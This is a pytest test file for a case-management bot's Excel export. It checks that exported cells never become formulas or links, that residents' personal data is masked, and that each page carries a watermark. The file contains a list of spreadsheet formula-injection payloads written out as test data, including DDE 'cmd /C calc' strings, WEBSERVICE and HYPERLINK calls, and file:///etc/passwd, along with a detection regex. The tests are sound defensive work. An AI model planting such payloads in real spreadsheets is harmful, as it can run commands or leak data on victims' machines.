"""Workbooks: no cell becomes a formula, nothing personal slips in, and every page carries the
mark."""

import re
import zipfile
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from io import BytesIO
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from bot.papers import workbooks
from bot.papers.workbooks import PERSONAL, ListedCase, Sheet, Value, workbook
from casework.case.model import Case, Status
from casework.reports.first_times import FirstTimes, Moment
from conversations.content.content import Content
from conversations.protocol.places import Places
from conversations.protocol.texts import Texts
from tests.casework.cases import DISTRICT, NOW, POLICY, VILLAGE, standing
from tests.casework.shipped import CATALOGUE

WIB = ZoneInfo("Asia/Jakarta")
MARK = "7f3a-91c2"

HEADS = ("=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠")
BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\x00",
    "\x01",
    "\x1f",
    "\u00a0",
    "\ufeff",
    "\u200b",
    "\u3000",
    " \t ",
)
TAILS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://contoh.example?x="&A1,"klik")',
    "SUM(A1:A9)",
    "WEBSERVICE(A1)",
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML(A1,"//a")',
    "2+5+cmd|' /C calc'!A0",
)
PAYLOADS = [
    *(
        f"{before}{head}{TAILS[(n + m) % len(TAILS)]}"
        for n, before in enumerate(BEFORE)
        for m, head in enumerate(HEADS)
    ),
    "{=1+1}",
    "'=1+1",
    '"=1+1"',
    "http://contoh.example",
    "mailto:a@contoh.example",
    "file:///etc/passwd",
    "internal:Sheet1!A1",
    "081234567890",
    "3271010101010001",
    "1e5",
    "TRUE",
    "#REF!",
    "<b>tebal</b>",
    "&amp;",
    "]]>",
    "=" * 40_000,
    "\x08=1",
    "\x85=1",
    "a\x00b",
    "\ud800=1",
    "\uffff=1",
]


def opened(data: bytes) -> Worksheet:
    sheet = load_workbook(BytesIO(data)).worksheets[0]
    assert isinstance(sheet, Worksheet)
    return sheet


def written(*rows: tuple[Value, ...]) -> bytes:
    return workbook(
        [Sheet("Laporan", (("Isi", 30),) * max(len(r) for r in rows), rows)], "Laporan", MARK, WIB
    )


def test_many_payloads() -> None:
    """There are more than a hundred payloads."""
    assert len(set(PAYLOADS)) > 100


@pytest.fixture(scope="module")
def attacked() -> bytes:
    """A workbook in which everything that people can write is a payload."""
    rows = [(text, text) for text in PAYLOADS]
    return workbook(
        [Sheet(text, ((text, 9), (text, 9)), rows) for text in PAYLOADS[:1]], PAYLOADS[0], MARK, WIB
    )


def test_no_formula(attacked: bytes) -> None:
    """Read back, every cell is a text; none is a formula, an error, a number or a link."""
    cells = [cell for row in opened(attacked).iter_rows() for cell in row if cell.value is not None]
    assert len(cells) >= 2 * len(PAYLOADS)
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.hyperlink is None for cell in cells)


def test_no_formula_in_the_file(attacked: bytes) -> None:
    """The sheets themselves hold no formula and no link, and refer to nothing outside."""
    with zipfile.ZipFile(BytesIO(attacked)) as packed:
        for name in packed.namelist():
            text = packed.read(name).decode()
            assert not re.search(
                r"<f[ >]|<hyperlink|externalLink|oleObject|TargetMode=.External", text
            ), name


def test_stays_text_when_edited(attacked: bytes) -> None:
    """Each text is marked to stay a text when somebody opens and closes its cell."""
    cells = [cell for row in opened(attacked).iter_rows(min_row=3) for cell in row]
    assert all(cell.quotePrefix for cell in cells)
    assert {cell.number_format for cell in cells} == {"@"}


@pytest.mark.parametrize("text", PAYLOADS)
def test_safe_in_a_csv_copy(text: str) -> None:
    """What was saved as CSV from the workbook begins with no command, whatever blanks stand before
    it."""
    bare = re.sub(r"^[\s\x00-\x20\x7f-\xa0\ufeff\u200b-\u200f]+", "", workbooks.safe(text))
    assert not bare.startswith(HEADS)


@given(st.text())
def test_any_text(text: str) -> None:
    """Any text at all gives a workbook that can be read, and in it a text."""
    cell = opened(written((text + "x",)))["A3"]
    assert cell.data_type == "s"


def test_ordinary_text_unchanged() -> None:
    """Ordinary words stay as they are."""
    text = "Bu RT bilang: PKH belum cair 3 bulan (lihat foto)\nRT 03/RW 05"
    assert opened(written((text,)))["A3"].value == text


def test_time() -> None:
    """Times are shown by the office's clock; one without a zone is refused."""
    shown = opened(written((datetime(2026, 11, 20, 20, 30, tzinfo=UTC),)))["A3"].value
    assert shown == datetime(2026, 11, 21, 3, 30)  # noqa: DTZ001
    with pytest.raises(ValueError, match="without a zone"):
        written((datetime(2026, 11, 20),))  # noqa: DTZ001


def test_time_to_the_minute() -> None:
    """Seconds and what is below them are not told, as nowhere else."""
    at = datetime(2026, 11, 20, 20, 30, 59, 123456, tzinfo=UTC)
    shown = opened(written((at,)))["A3"].value
    assert shown == datetime(2026, 11, 21, 3, 30)  # noqa: DTZ001


def test_page() -> None:
    """Headings stay in sight, columns have their widths, and the sheet can be filtered."""
    sheet = opened(written(("a", 5), ("b", None)))
    assert (sheet.freeze_panes, sheet.auto_filter.ref, sheet.column_dimensions["A"].width) == (
        "B3",
        "A2:B4",
        pytest.approx(30, abs=1),
    )
    assert sheet["B3"].value == 5


def test_mark() -> None:
    """The mark stands on top of the sheet, at the foot of what is printed, and in the
    properties."""
    data = written(("a",))
    book = load_workbook(BytesIO(data))
    sheet = opened(data)
    assert MARK in str(sheet["A1"].value)
    assert MARK in (sheet.oddFooter.left.text or "")
    assert book.properties.description == MARK
    assert book.custom_doc_props["mark"].value == MARK


def test_no_file_left(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing is written to the disk on the way."""
    monkeypatch.setattr(
        "tempfile._get_default_tempdir", lambda *_: pytest.fail("a temporary file was made")
    )
    monkeypatch.setattr("tempfile.tempdir", None)
    assert written(("a",))


# ---- the list of cases

COLUMN_TEXTS = {f"figures.column.{name}": name for name in workbooks.COLUMNS}
OTHER_TEXTS = {
    "figures.sheet": "Laporan",
    "case.sensitive": "laporan rahasia",
    "staff.waiting": "menunggu pelapor",
    "figures.district": "Kantor kota",
    **{
        f"{kind}.{name}": name
        for kind, names in {
            "status": Status,
            "urgency": ("normal", "high", "emergency", "low"),
            "decision": ("helped",),
        }.items()
        for name in names
    },
    **{f"sector.{name}.name": name for name in CATALOGUE.sectors},
    **{f"service.{name}.name": f"layanan {name}" for name in CATALOGUE.services},
}
CONTENT = Content(
    forms={},
    texts=Texts({"id": COLUMN_TEXTS | OTHER_TEXTS}, "id", WIB),
    catalogue=CATALOGUE,
    words=None,  # type: ignore[arg-type]
    alarms=None,
    places=Places({VILLAGE: "Kesambi"}, {}),
    numbers="112",
    consent="1",  # type: ignore[arg-type]
    directory=POLICY.directory,
    district=POLICY.district,
)
TOLD = {
    "sufferer": "Nenek di ujung gang",
    "phone": "+6281234567890",
    "nik": "3274051503600001",
    "kk": "3274051503100002",
    "place": "RT 03 RW 05, dekat musala",
    "story": "rahasia keluarga",
}
SENSITIVE = next(key for key, service in CATALOGUE.services.items() if service.sensitive)


def known(case: Case) -> ListedCase:
    """A case to which nothing has happened yet but its filing."""
    return ListedCase(case, FirstTimes({"received": Moment(case.opened_at, case.office)}))


def listed(case: Case, permitted: frozenset[str] = frozenset()) -> dict[str, Any]:
    sheet = opened(
        workbook([workbooks.case_sheet([known(case)], CONTENT, "id", permitted)], "L", MARK, WIB)
    )
    heads, values = ([cell.value for cell in row] for row in sheet.iter_rows(min_row=2, max_row=3))
    return dict(zip(map(str, heads), values, strict=True))


def test_case() -> None:
    """A case is a line with its number, place, service and times."""
    line = listed(standing(Status.CLOSED))
    assert (line["number"], line["village"], line["service"]) == (
        "26-00001-" + line["number"][-1],
        "Kesambi",
        "layanan pkh",
    )
    assert (line["status"], line["decision"]) == ("closed", "helped")
    assert line["opened"] == (NOW + timedelta(hours=7)).replace(tzinfo=None)


def test_masked() -> None:
    """Unless permitted, a line shows nobody's name, number, identity or address, and never the
    story."""
    line = listed(standing(Status.RECEIVED, intake=TOLD))
    assert [line[name] for name in ("sufferer", "phone", "nik", "kk", "place")] == [
        "N•••",
        "•••• 890",
        "•••• 0001",
        "•••• 0002",
        "•••",
    ]
    assert TOLD["story"] not in map(str, line.values())


def test_sensitive_topic() -> None:
    """A sensitive topic is not named unless that is permitted."""
    case = standing(Status.RECEIVED, service=SENSITIVE)
    assert (listed(case)["service"], listed(case)["sector"]) == ("laporan rahasia", None)
    assert listed(case, frozenset({"topic"}))["service"] == f"layanan {SENSITIVE}"


def test_permitted() -> None:
    """What is permitted is there in full, and only that."""
    case = standing(Status.RECEIVED, intake=TOLD)
    line = listed(case, frozenset({"phone", "nik"}))
    assert (line["phone"], line["nik"], line["sufferer"]) == ("081234567890", TOLD["nik"], "N•••")
    assert listed(case, PERSONAL)["place"] == TOLD["place"]


def test_many_cases() -> None:
    """A list of some thousand cases is made in a moment."""
    sheet = workbooks.case_sheet(
        [known(standing(Status.CLOSED, intake=TOLD))] * 3000, CONTENT, "id"
    )
    assert len(workbook([sheet], "L", MARK, WIB)) > 30_000


def test_what_has_become_of_a_case() -> None:
    """Its holder, when it was answered, late and referred and to whom, its stars; in the officer's
    words."""
    at = {word: Moment(NOW, VILLAGE) for word in ("received", "answered", "late", "referred")}
    firsts = FirstTimes(at, "Dinas Sosial", None, (4, NOW))
    sheet = workbooks.case_sheet(
        [ListedCase(standing(Status.WAITING), firsts, "Petugas depan")], CONTENT, "id"
    )
    line = dict(zip((head for head, _ in sheet.columns), next(iter(sheet.rows)), strict=True))
    assert (line["holder"], line["referred_to"], line["stars"]) == (
        "Petugas depan",
        "Dinas Sosial",
        4,
    )
    assert [line[w] for w in ("opened", "answered", "late", "referred")] == [NOW] * 4
    assert line["closed"] is line["reopened"] is None
    assert line["status"] == "menunggu pelapor"


def test_the_list_says_which_office_each_word_counts_for() -> None:
    """The sheet of offices can be counted from it: the office of then for what has happened, that
    of now for what is open."""
    at = {"received": Moment(NOW, VILLAGE), "late": Moment(NOW, DISTRICT)}
    case = standing(Status.IN_PROGRESS, office=DISTRICT)
    sheet = workbooks.case_sheet([ListedCase(case, FirstTimes(at, office=VILLAGE))], CONTENT, "id")
    line = dict(zip((head for head, _ in sheet.columns), next(iter(sheet.rows)), strict=True))
    now, received, late = (line[x] for x in ("office", "office_received", "office_late"))
    assert now == received != late
    assert line["office_answered"] is line["office_closed"] is None


def test_confidential_cases_stay_masked() -> None:
    """Where the topic may not be named, nobody's name stands beside it either."""
    case = standing(Status.RECEIVED, intake=TOLD, service=SENSITIVE)
    assert listed(case, PERSONAL - {"topic"})["nik"] == "•••• 0001"
    assert listed(case, PERSONAL)["nik"] == TOLD["nik"]


@pytest.mark.parametrize(
    ("service", "secret", "confidential"),
    [(SENSITIVE, "open", False), ("pkh", "secret", False), ("pkh", "open", True)],
)
def test_who_is_not_to_be_named_has_no_initial(
    service: str, secret: str, confidential: bool
) -> None:
    """A letter is enough for a neighbour who reads along."""
    told = {**TOLD, "secret": secret}
    case = replace(
        standing(Status.RECEIVED, intake=told, service=service), confidential=confidential
    )
    assert listed(case)["sufferer"] == "•••"
